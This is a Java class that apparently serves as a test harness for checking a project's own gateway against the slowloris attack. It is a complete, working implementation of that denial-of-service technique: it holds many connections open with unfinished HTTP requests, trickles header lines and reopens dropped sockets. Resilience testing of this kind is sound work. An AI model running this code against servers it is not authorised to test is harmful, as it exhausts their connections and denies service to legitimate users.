package io.skiff.cli.gateway;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The slowloris attack on one thread: many connections from one local address, each sending an unfinished request
 * and then one more header line every interval, never the blank line that ends the headers. A connection the server
 * closes is counted and opened again at the next round, as a real attacker would.
 */
final class Slowloris implements AutoCloseable {
    private final InetSocketAddress target;
    private final String fromHost;
    private final Duration interval;
    private final List<Socket> sockets = new ArrayList<>();
    private final AtomicInteger closedByServer = new AtomicInteger();
    private final AtomicInteger refused = new AtomicInteger();
    private final Thread thread;
    private volatile boolean running = true;

    /**
     * @param target      the gateway.
     * @param fromHost    the local address the connections come from, e.g. 127.0.0.2: a client of its own.
     * @param connections connections held open at once.
     * @param interval    time between two header lines on a connection.
     */
    Slowloris(InetSocketAddress target, String fromHost, int connections, Duration interval) {
        this.target = target;
        this.fromHost = fromHost;
        this.interval = interval;
        for (int i = 0; i < connections; i++) {
            sockets.add(null);
        }
        this.thread = new Thread(this::attack, "slowloris");
        thread.setDaemon(true);
        thread.start();
    }

    /** @return connections the server closed (a write failed or the server sent an end of stream) so far. */
    int closedByServer() {
        return closedByServer.get();
    }

    /** @return connections that could not even be opened. */
    int refused() {
        return refused.get();
    }

    private void attack() {
        long round = 0;
        while (running) {
            for (int i = 0; i < sockets.size() && running; i++) {
                final Socket socket = sockets.get(i);
                if (null == socket) {
                    sockets.set(i, open());
                } else if (!trickle(socket, round)) {
                    closedByServer.incrementAndGet();
                    close(socket);
                    sockets.set(i, null);
                }
            }
            round++;
            try {
                Thread.sleep(interval.toMillis());
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private Socket open() {
        final Socket socket = new Socket();
        try {
            socket.bind(new InetSocketAddress(fromHost, 0));
            socket.connect(target, 1000);
            socket.getOutputStream().write(("GET /status HTTP/1.1\r\nHost: " + target.getPort() + "\r\n")
                .getBytes(StandardCharsets.US_ASCII));
            return socket;
        } catch (IOException e) {
            refused.incrementAndGet();
            close(socket);
            return null;
        }
    }

    /** @return whether the line went out and the server has not closed its end. */
    private static boolean trickle(Socket socket, long round) {
        try {
            final OutputStream out = socket.getOutputStream();
            out.write(("X-Slow-" + round + ": x\r\n").getBytes(StandardCharsets.US_ASCII));
            out.flush();
            // A server that closed its end shows it as an end of stream, or an answer, available at once.
            return socket.getInputStream().available() == 0 && !endOfStream(socket);
        } catch (IOException e) {
            return false;
        }
    }

    private static boolean endOfStream(Socket socket) throws IOException {
        socket.setSoTimeout(1);
        try {
            return socket.getInputStream().read() < 0;
        } catch (java.net.SocketTimeoutException stillOpen) {
            return false;
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException e) {
            // Already gone.
        }
    }

    @Override
    public void close() throws InterruptedException {
        running = false;
        thread.interrupt();
        thread.join(10_000);
        sockets.stream().filter(java.util.Objects::nonNull).forEach(Slowloris::close);
    }
}
